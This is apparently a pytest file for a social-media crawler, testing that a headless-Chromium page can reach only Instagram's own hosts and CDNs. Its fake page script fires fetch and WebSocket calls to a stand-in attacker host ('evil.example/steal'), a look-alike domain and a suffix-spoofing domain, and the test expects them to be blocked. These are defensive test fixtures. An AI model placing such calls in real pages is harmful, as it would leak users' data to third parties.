"""Outside replica mode a rendered page reaches only its platform's hosts and CDNs: a page
(or a script on it) cannot hand what it holds to a third party. Real Chromium; every name
is mapped to "not found" inside it, so nothing leaves this machine whatever routing says."""

from __future__ import annotations

import asyncio

import pytest
from scrapy import Request

from spiders.facebook import FacebookSpider
from spiders.instagram import InstagramSpider
from spiders.tiktokshop import TiktokShopSpider

PAGE_URL = "https://www.instagram.com/explore/tags/balpres/"
TRIES = {
    "third-party": "https://evil.example/steal?c=1",
    "look-alike": "https://www.instagram.com.evil.example/x",
    "suffix": "https://notinstagram.com/x",
    "own-api": "https://www.instagram.com/api/v1/tags/web_info/?tag_name=balpres",
    "own-cdn": "https://static.cdninstagram.com/rsrc.php/v3/x.js",
    "image-cdn": "https://scontent-cgk1-2.fbcdn.net/v/t51/1.jpg",
}
PAGE = ("<html><body><div id='ready'>ready</div><script>"
        + "".join(f"fetch({url!r}).catch(() => null);" for url in TRIES.values())
        + "try { new WebSocket('wss://evil.example/socket'); } catch (e) {}"
        + "</script></body></html>")


def test_each_rendered_platform_names_its_own_hosts():
    assert InstagramSpider().page_domains() == ("www.instagram.com", "instagram.com",
                                                "cdninstagram.com", "fbcdn.net")
    assert "fbcdn.net" in FacebookSpider().page_domains()
    assert TiktokShopSpider().page_domains()[0] == "shop-id.tokopedia.com"


async def _failures(domains) -> dict[str, str]:
    from playwright.async_api import async_playwright

    from crawler.runtime.browser import CONTEXT_KWARGS, launch_options, public_router

    options = launch_options("/usr/bin/chromium")
    options["args"].append("--host-resolver-rules=MAP * ~NOTFOUND")
    failed: dict[str, str] = {}
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(**options)
        context = await browser.new_context(**CONTEXT_KWARGS)
        page = await context.new_page()
        page.on("requestfailed", lambda r: failed.setdefault(r.url, r.failure or ""))
        await public_router(domains)(page, Request(PAGE_URL))

        async def serve_page(route, _):
            await route.fulfill(body=PAGE, content_type="text/html")

        await page.route(PAGE_URL, serve_page)  # registered last: answers the page itself
        await page.goto(PAGE_URL)
        await page.wait_for_timeout(1500)
        await browser.close()
    return failed


def _blocked(failure: str | None) -> bool:
    """Aborted by routing ("blockedbyclient"), not failed on the way out."""
    return bool(failure) and failure.startswith("net::ERR_BLOCKED_BY_CLIENT")


@pytest.mark.browser
def test_a_rendered_page_reaches_only_its_platforms_hosts():
    failed = asyncio.run(_failures(InstagramSpider().page_domains()))
    blocked = {name for name, url in TRIES.items() if _blocked(failed.get(url))}
    assert blocked == {"third-party", "look-alike", "suffix"}, failed
    # The platform's own hosts were let through routing (and then found no name here).
    assert all(TRIES[name] in failed for name in ("own-api", "own-cdn", "image-cdn")), failed


@pytest.mark.browser
def test_without_a_host_list_only_the_address_policy_applies():
    failed = asyncio.run(_failures(None))
    assert not [url for url, why in failed.items() if _blocked(why)]
